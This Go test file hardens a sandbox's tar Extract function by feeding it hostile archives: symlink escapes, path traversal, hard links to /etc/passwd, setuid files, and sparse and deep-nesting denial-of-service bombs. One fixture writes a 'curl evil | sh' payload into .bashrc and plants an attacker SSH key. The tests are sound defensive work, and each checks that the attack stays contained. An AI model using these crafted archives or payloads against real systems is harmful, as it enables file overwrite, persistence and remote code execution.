package treecopy

// Attacks on Extract as a hostile guest would make them. Each test is an
// attack that must stay contained; its comment says what it tried and
// what defends against it.

import (
	"archive/tar"
	"bytes"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// Attack (escape). Extract confines what it writes to root, not to name:
// a symbolic link the stream itself made is followed by every later entry
// (os.Root follows links that stay inside the root). mvm's copyOut opens
// its root at the destination's PARENT and extracts into
// "<parent>/.mvm-cp-*/x", so a link "./l" -> "../.." resolves to the
// parent itself and "./l/.bashrc" overwrites <parent>/.bashrc; a
// directory entry "./l/.ssh" gets its mode (here 0777) applied to the
// user's existing <parent>/.ssh at the end. This models copyOut's call
// exactly; TestAttackCopyOutSymlinkOverwritesParent in the root package
// does it end to end.
func TestAttackExtractWritesOutsideNameThroughOwnSymlink(t *testing.T) {
	parent := t.TempDir()
	must(t, os.WriteFile(filepath.Join(parent, ".bashrc"), []byte("safe\n"), 0o644))
	must(t, os.Mkdir(filepath.Join(parent, ".ssh"), 0o700))
	must(t, os.Mkdir(filepath.Join(parent, ".mvm-cp-1"), 0o700))
	dot := dir(".")
	sshDir := dir("./l/.ssh")
	sshDir.hdr.Mode = 0o777
	stream := tarOf(t,
		dot,
		link("./l", "../.."),
		file("./l/.bashrc", "curl evil | sh\n"),
		sshDir,
		file("./l/.ssh/authorized_keys", "ssh-ed25519 AAAA attacker\n"),
	)
	_, err := Extract(bytes.NewReader(stream), openRoot(t, parent), ".mvm-cp-1/x", Limits{MaxBytes: 1 << 20, StripSetID: true})
	t.Logf("Extract: %v", err)
	if b, _ := os.ReadFile(filepath.Join(parent, ".bashrc")); string(b) != "safe\n" {
		t.Errorf("the guest rewrote <parent>/.bashrc (outside the staging directory): %q", b)
	}
	if _, err := os.Lstat(filepath.Join(parent, ".ssh/authorized_keys")); err == nil {
		t.Error("the guest wrote <parent>/.ssh/authorized_keys")
	}
	if fi, _ := os.Stat(filepath.Join(parent, ".ssh")); fi.Mode().Perm() != 0o700 {
		t.Errorf("the guest changed <parent>/.ssh's mode to %v", fi.Mode().Perm())
	}
}

// Attack (DoS, low). MaxBytes counts only regular files' bytes: 2000
// symlinks with 4000-byte targets (one block each on disk, about 8 MB)
// and, likewise, up to a million directories (4 KiB each, 4 GiB) pass a
// 1 MiB limit; copyOut's free-space reserve does not count them either.
func TestAttackExtractMetadataNotCounted(t *testing.T) {
	target := strings.Repeat("t", 4000)
	entries := []entry{dir(".")}
	for i := range 2000 {
		entries = append(entries, link(fmt.Sprintf("./l%d", i), target))
	}
	_, err := Extract(bytes.NewReader(tarOf(t, entries...)), openRoot(t, t.TempDir()), "x", Limits{MaxBytes: 1 << 20, StripSetID: true})
	if !errors.Is(err, ErrLimit) {
		t.Errorf("about 8 MB of link targets accepted under a 1 MiB limit (err %v)", err)
	}
}

// Attack (DoS, CPU/time). Every operation Extract makes goes through
// os.Root by path, which walks the name component by component, and each
// entry costs several of them (Lstat, Mkdir or OpenFile, Chtimes, Rename,
// then Chmod and Chtimes again for a directory): an entry at depth d costs
// O(d) syscalls, a stream of n deep entries O(n*d). Names may be 4096
// bytes (2048 levels) and a stream may hold 1<<20 entries whose header
// bytes count against no limit: 1000 directories nested 1000 deep take
// about 13 seconds here (13 ms an entry), so a million entries at depth
// 2000 keep "mvmctl sandbox cp" busy for hours. A bound on depth (say 256)
// or on header bytes, or walking with directory handles kept open, fixes
// it.
func TestAttackExtractDeepNestingIsQuadratic(t *testing.T) {
	const depth = 1000
	entries := []entry{dir(".")}
	for i := 1; i <= depth; i++ {
		entries = append(entries, dir("."+strings.Repeat("/d", i)))
	}
	stream := tarOf(t, entries...)
	start := time.Now()
	_, err := Extract(bytes.NewReader(stream), openRoot(t, t.TempDir()), "x", Limits{StripSetID: true})
	el := time.Since(start)
	t.Logf("%d entries (%d bytes of stream) nested %d deep: %v, %v an entry; err %v", len(entries), len(stream), depth, el, el/time.Duration(len(entries)), err)
	if err == nil && el > time.Duration(len(entries))*time.Millisecond {
		t.Errorf("over 1 ms an entry (%v): quadratic in the depth", el/time.Duration(len(entries)))
	}
}

// Contained: the rest of what a hostile stream can try, with root at the
// destination itself (nothing outside dst may appear).
func TestAttackExtractContained(t *testing.T) {
	long := strings.Repeat("a", MaxNameLen+1)
	cases := []struct {
		name    string
		entries []entry
		lim     Limits
		ok      bool // accepted (but contained)
	}{
		{"x/../y", []entry{dir("."), dir("./x"), file("./x/../y", "z")}, Limits{}, false},
		{"trailing ..", []entry{dir("."), dir("./x/..")}, Limits{}, false},
		{"dot dot slash top", []entry{dir("./"), file("./a", "x")}, Limits{}, true},
		{"dot component", []entry{dir("."), dir("./x/."), file("./x/./f", "y")}, Limits{}, true}, // cleaned to "x", "x/f"
		{"long name", []entry{dir("."), file("./"+long, "x")}, Limits{}, false},
		{"long link target", []entry{dir("."), link("./l", long)}, Limits{}, false},
		{"absolute link then write", []entry{dir("."), link("./l", "/tmp"), file("./l/escape", "x")}, Limits{}, false},
		{"link to dotdot then dir", []entry{dir("."), link("./l", ".."), dir("./l/../../e")}, Limits{}, false},
		{"link chain out", []entry{dir("."), link("./a", "."), link("./b", "a/a/a/.."), file("./b/../escape", "x")}, Limits{}, false},
		{"link replaced by dir", []entry{dir("."), link("./l", "/"), dir("./l")}, Limits{}, false},
		{"file over link", []entry{dir("."), link("./l", "/etc/passwd"), file("./l", "x")}, Limits{}, false}, // a second entry of one name is refused
		{"hard link", []entry{dir("."), {hdr: &tar.Header{Name: "./h", Typeflag: tar.TypeLink, Linkname: "../../etc/passwd"}}}, Limits{}, false},
		{"fifo", []entry{dir("."), {hdr: &tar.Header{Name: "./p", Typeflag: tar.TypeFifo}}}, Limits{}, false},
		{"global pax header", []entry{dir("."), {hdr: &tar.Header{Name: "g", Typeflag: tar.TypeXGlobalHeader, PAXRecords: map[string]string{"path": "/etc/x"}}}}, Limits{}, false},
		{"control chars in name", []entry{dir("."), file("./\x1b[31mred\nline", "x")}, Limits{}, true}, // allowed, as docker does (docs/sandboxes.md)
		{"entries limit", []entry{dir("."), dir("./a"), dir("./b")}, Limits{MaxEntries: 2}, false},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			outer := t.TempDir()
			dst := filepath.Join(outer, "dst")
			must(t, os.Mkdir(dst, 0o755))
			c.lim.StripSetID = true
			_, err := Extract(bytes.NewReader(tarOf(t, c.entries...)), openRoot(t, dst), "x", c.lim)
			if c.ok && err != nil {
				t.Errorf("refused: %v", err)
			}
			if !c.ok && err == nil {
				t.Error("accepted")
			}
			ents, _ := os.ReadDir(outer)
			if len(ents) != 1 {
				t.Errorf("written outside the destination: %v", ents)
			}
			for _, p := range []string{"/escape", "/tmp/escape", "/e"} {
				if _, err := os.Lstat(p); err == nil {
					t.Errorf("%s exists", p)
				}
			}
		})
	}
}

// Contained: setuid, setgid and sticky bits are dropped, on files and on
// directories.
func TestAttackExtractSetIDStripped(t *testing.T) {
	dst := t.TempDir()
	d := dir(".")
	d.hdr.Mode = 0o7777
	f := file("./suid", "#!/bin/sh\n")
	f.hdr.Mode = 0o6755
	if _, err := Extract(bytes.NewReader(tarOf(t, d, f)), openRoot(t, dst), "x", Limits{StripSetID: true}); err != nil {
		t.Fatal(err)
	}
	for _, p := range []string{"x", "x/suid"} {
		fi, err := os.Lstat(filepath.Join(dst, p))
		must(t, err)
		if fi.Mode()&(os.ModeSetuid|os.ModeSetgid|os.ModeSticky) != 0 {
			t.Errorf("%s: mode %v", p, fi.Mode())
		}
	}
}

// Contained: a header with a negative size (base-256 in the size field)
// is refused by archive/tar itself.
func TestAttackExtractNegativeSize(t *testing.T) {
	var blk [512]byte
	copy(blk[0:], ".")
	copy(blk[100:], "0000644\x00")
	copy(blk[108:], "0000000\x00")
	copy(blk[116:], "0000000\x00")
	for i := 124; i < 136; i++ { // size: -1 in base 256
		blk[i] = 0xff
	}
	copy(blk[136:], "00000000000\x00")
	blk[156] = tar.TypeReg
	copy(blk[257:], "ustar\x0000")
	sum := 0
	for i := range blk {
		if i >= 148 && i < 156 {
			sum += ' '
		} else {
			sum += int(blk[i])
		}
	}
	copy(blk[148:], fmt.Sprintf("%06o\x00 ", sum))
	stream := append(blk[:], make([]byte, 1024)...)
	if _, err := Extract(bytes.NewReader(stream), openRoot(t, t.TempDir()), "x", Limits{}); err == nil {
		t.Fatal("a negative size was accepted")
	}
}

// Contained: a PAX sparse file (GNU.sparse 1.0) that expands to 1 TB from a
// few bytes of stream is refused at its header: archive/tar reports the
// expanded size, which the byte limit checks.
func TestAttackExtractSparseBomb(t *testing.T) {
	var buf bytes.Buffer
	tw := tar.NewWriter(&buf)
	must(t, tw.WriteHeader(&tar.Header{Name: ".", Typeflag: tar.TypeDir, Mode: 0o755, Format: tar.FormatPAX}))
	tw.Flush()
	// A PAX 'x' header by hand (tar.Writer refuses GNU.sparse records).
	recs := ""
	for _, kv := range [][2]string{{"GNU.sparse.major", "1"}, {"GNU.sparse.minor", "0"}, {"GNU.sparse.name", "./bomb"}, {"GNU.sparse.realsize", "1000000000000"}} {
		r := " " + kv[0] + "=" + kv[1] + "\n"
		n := len(r) + 2
		if len(fmt.Sprint(n)+r) != n {
			n++
		}
		recs += fmt.Sprint(n) + r
	}
	raw := buf.Bytes() // the top entry, without an end marker
	raw = append(raw, rawHeader("PaxHeaders/bomb", 'x', int64(len(recs)))...)
	raw = append(raw, pad([]byte(recs))...)
	sparseMap := pad([]byte("1\n999999999999\n1\n"))
	raw = append(raw, rawHeader("./GNUSparseFile.0/bomb", tar.TypeReg, int64(len(sparseMap)+1))...)
	raw = append(raw, pad(append(sparseMap, 'x'))...)
	raw = append(raw, make([]byte, 1024)...)
	tr := tar.NewReader(bytes.NewReader(raw))
	tr.Next()
	if h, err := tr.Next(); err != nil || h.Size != 1e12 {
		t.Fatalf("the crafted sparse header reads as %+v, %v", h, err)
	}
	dst := t.TempDir()
	_, err := Extract(bytes.NewReader(raw), openRoot(t, dst), "x", Limits{MaxBytes: 1 << 20})
	if !errors.Is(err, ErrLimit) {
		t.Fatalf("error %v, want ErrLimit", err)
	}
}

func rawHeader(name string, typ byte, size int64) []byte {
	var blk [512]byte
	copy(blk[0:], name)
	copy(blk[100:], "0000644\x00")
	copy(blk[108:], "0000000\x00")
	copy(blk[116:], "0000000\x00")
	copy(blk[124:], fmt.Sprintf("%011o\x00", size))
	copy(blk[136:], "00000000000\x00")
	blk[156] = typ
	copy(blk[257:], "ustar\x0000")
	sum := 0
	for i := range blk {
		if i >= 148 && i < 156 {
			sum += ' '
		} else {
			sum += int(blk[i])
		}
	}
	copy(blk[148:], fmt.Sprintf("%06o\x00 ", sum))
	return blk[:]
}

func pad(b []byte) []byte {
	if r := len(b) % 512; r != 0 {
		b = append(b, make([]byte, 512-r)...)
	}
	return b
}
